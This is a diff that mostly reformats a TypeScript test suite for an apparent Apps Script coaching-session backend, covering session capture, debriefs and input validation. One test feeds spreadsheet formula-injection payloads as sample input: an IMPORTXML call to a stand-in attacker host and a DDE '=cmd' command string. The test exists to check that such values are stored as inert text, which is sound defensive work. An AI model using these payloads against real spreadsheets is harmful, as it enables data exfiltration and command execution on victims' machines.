@@ -8,8 +8,17 @@ const started = '2026-11-20T15:00:00Z';
 
 function captureBody(p: TestProgram, overrides: Record<string, unknown> = {}, session: Record<string, unknown> = {}) {
   return {
-    v: 1, op: 'capture', token: p.token, captureId: `cap-${Math.random().toString(36).slice(2)}`,
-    session: { newClient: { name: 'Maya Thompson', email: 'maya@example.org', organization: 'Lincoln MS' }, startedAt: started, endedAt: '2026-11-20T15:50:00Z', notes: 'Talked about routines.', ...session },
+    v: 1,
+    op: 'capture',
+    token: p.token,
+    captureId: `cap-${Math.random().toString(36).slice(2)}`,
+    session: {
+      newClient: { name: 'Maya Thompson', email: 'maya@example.org', organization: 'Lincoln MS' },
+      startedAt: started,
+      endedAt: '2026-11-20T15:50:00Z',
+      notes: 'Talked about routines.',
+      ...session,
+    },
     actionItems: [
       { text: 'Try a countdown timer', owner: 'client', due: '2026-11-27' },
       { text: 'Send the video clip', owner: 'coach' },
@@ -64,7 +73,11 @@ describe('Apps Script bundle', () => {
 
   it('hello answers the coach, the sheet and the server version', () => {
     const answer = p.post({ v: 1, op: 'hello', token: p.token });
-    expect(answer).toMatchObject({ ok: true, coach: { coach_id: p.coachId, name: 'Ana Rivera', role: 'coach' }, sheet: { timeZone: 'America/New_York' } });
+    expect(answer).toMatchObject({
+      ok: true,
+      coach: { coach_id: p.coachId, name: 'Ana Rivera', role: 'coach' },
+      sheet: { timeZone: 'America/New_York' },
+    });
     expect(answer.server.version).toMatch(/^\d+\.\d+\.\d+/);
   });
 
@@ -107,9 +120,15 @@ describe('Apps Script bundle', () => {
 
   it('user text beginning with =, +, - or @ is stored as text, never a formula', () => {
     const notes = '=IMPORTXML("http://evil.example","//a")';
-    const answer = p.post(captureBody(p, {
-      actionItems: [{ text: '+1 555 0100' }, { text: '-2' }, { text: '@coach check in' }, { text: 'TRUE' }],
-    }, { notes, newClient: { name: '=cmd|"/c calc"!A1' } }));
+    const answer = p.post(
+      captureBody(
+        p,
+        {
+          actionItems: [{ text: '+1 555 0100' }, { text: '-2' }, { text: '@coach check in' }, { text: 'TRUE' }],
+        },
+        { notes, newClient: { name: '=cmd|"/c calc"!A1' } },
+      ),
+    );
     expect(answer.ok).toBe(true);
     const session = p.rows('Sessions')[0]!;
     expect(session[(columnsOf('Sessions') as string[]).indexOf('notes')]).toBe(notes);
@@ -140,13 +159,19 @@ describe('Apps Script bundle', () => {
 
   it('a debrief updates earlier items of the same client', () => {
     const first = p.post(captureBody(p));
-    const second = p.post(captureBody(p, {
-      actionItems: [],
-      debrief: [
-        { itemId: first.itemIds[0], status: 'done' },
-        { itemId: first.itemIds[1], status: 'derailed', note: 'Clip was too long' },
-      ],
-    }, { newClient: undefined, clientId: first.clientId }));
+    const second = p.post(
+      captureBody(
+        p,
+        {
+          actionItems: [],
+          debrief: [
+            { itemId: first.itemIds[0], status: 'done' },
+            { itemId: first.itemIds[1], status: 'derailed', note: 'Clip was too long' },
+          ],
+        },
+        { newClient: undefined, clientId: first.clientId },
+      ),
+    );
     expect(second.ok).toBe(true);
     const cols = columnsOf('ActionItems') as string[];
     const items = p.rows('ActionItems');
@@ -156,27 +181,43 @@ describe('Apps Script bundle', () => {
     expect(items[1]![cols.indexOf('completed_at')]).toBeNull();
   });
 
-  it('a debrief from an older list never moves a closed item backwards; updateItems, the coach\'s explicit choice, may', () => {
+  it("a debrief from an older list never moves a closed item backwards; updateItems, the coach's explicit choice, may", () => {
     const first = p.post(captureBody(p));
     const cols = columnsOf('ActionItems') as string[];
     const client = { newClient: undefined, clientId: first.clientId };
-    expect(p.post(captureBody(p, { captureId: 'c2', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'done' }] }, client)).ok).toBe(true);
+    expect(
+      p.post(captureBody(p, { captureId: 'c2', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'done' }] }, client)).ok,
+    ).toBe(true);
     const completedAt = p.rows('ActionItems')[0]![cols.indexOf('completed_at')];
     expect(completedAt).toHaveProperty('d');
     // A panel that still showed the item as open marks it "in progress": the item stays done.
-    const stale = p.post(captureBody(p, { captureId: 'c3', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'in_progress', note: 'Half way' }] }, client));
+    const stale = p.post(
+      captureBody(
+        p,
+        { captureId: 'c3', actionItems: [], debrief: [{ itemId: first.itemIds[0], status: 'in_progress', note: 'Half way' }] },
+        client,
+      ),
+    );
     expect(stale.ok).toBe(true);
     expect(p.rows('ActionItems')[0]![cols.indexOf('status')]).toBe('done');
     expect(p.rows('ActionItems')[0]![cols.indexOf('completed_at')]).toEqual(completedAt);
     // Reopening on purpose goes through updateItems.
-    expect(p.post({ v: 1, op: 'updateItems', token: p.token, updates: [{ itemId: first.itemIds[0], status: 'in_progress' }] }).ok).toBe(true);
+    expect(p.post({ v: 1, op: 'updateItems', token: p.token, updates: [{ itemId: first.itemIds[0], status: 'in_progress' }] }).ok).toBe(
+      true,
+    );
     expect(p.rows('ActionItems')[0]![cols.indexOf('status')]).toBe('in_progress');
   });
 
   it('keeps a call participant the coach matched by hand as an alias of the client, once', () => {
     const first = p.post(captureBody(p));
     for (const id of ['a1', 'a2']) {
-      p.post(captureBody(p, { captureId: id, actionItems: [] }, { newClient: undefined, clientId: first.clientId, participantAlias: 'Maya T. (Guest)' }));
+      p.post(
+        captureBody(
+          p,
+          { captureId: id, actionItems: [] },
+          { newClient: undefined, clientId: first.clientId, participantAlias: 'Maya T. (Guest)' },
+        ),
+      );
     }
     const cols = columnsOf('Clients') as string[];
     expect(p.rows('Clients')[0]![cols.indexOf('aliases')]).toBe('Maya T. (Guest)');
@@ -190,14 +231,29 @@ describe('Apps Script bundle', () => {
       ['a missing token', () => ({ v: 1, op: 'hello' }), 'unauthorized'],
       ['a wrong token', () => ({ v: 1, op: 'hello', token: 'ftk_wrong' }), 'unauthorized'],
       ['a wrong API version', (p) => ({ v: 2, op: 'hello', token: p.token }), 'bad_request', 'v'],
-      ['a client that does not exist', (p) => captureBody(p, {}, { newClient: undefined, clientId: 'cli_missing' }), 'bad_request', 'session.clientId'],
+      [
+        'a client that does not exist',
+        (p) => captureBody(p, {}, { newClient: undefined, clientId: 'cli_missing' }),
+        'bad_request',
+        'session.clientId',
+      ],
       ['a missing captureId', (p) => ({ ...captureBody(p), captureId: undefined }), 'bad_request', 'captureId'],
       ['a missing startedAt', (p) => captureBody(p, {}, { startedAt: undefined }), 'bad_request', 'session.startedAt'],
       ['a bad due date', (p) => captureBody(p, { actionItems: [{ text: 'x', due: '2026-02-30' }] }), 'bad_request', 'actionItems.0.due'],
       ['an empty action item', (p) => captureBody(p, { actionItems: [{ text: '   ' }] }), 'bad_request', 'actionItems.0.text'],
       ['an unknown owner', (p) => captureBody(p, { actionItems: [{ text: 'x', owner: 'boss' }] }), 'bad_request', 'actionItems.0.owner'],
-      ['a debrief of an unknown item', (p) => captureBody(p, { debrief: [{ itemId: 'itm_nope', status: 'done' }] }), 'bad_request', 'debrief.0.itemId'],
-      ['an unknown goal', (p) => captureBody(p, { actionItems: [{ text: 'x', goalId: 'gol_nope' }] }), 'bad_request', 'actionItems.0.goalId'],
+      [
+        'a debrief of an unknown item',
+        (p) => captureBody(p, { debrief: [{ itemId: 'itm_nope', status: 'done' }] }),
+        'bad_request',
+        'debrief.0.itemId',
+      ],
+      [
+        'an unknown goal',
+        (p) => captureBody(p, { actionItems: [{ text: 'x', goalId: 'gol_nope' }] }),
+        'bad_request',
+        'actionItems.0.goalId',
+      ],
       ['an end before the start', (p) => captureBody(p, {}, { endedAt: '2026-11-20T14:00:00Z' }), 'bad_request', 'session.endedAt'],
       ['a body over the size limit', (p) => JSON.stringify({ ...captureBody(p), pad: 'x'.repeat(500_000) }), 'too_large'],
     ];
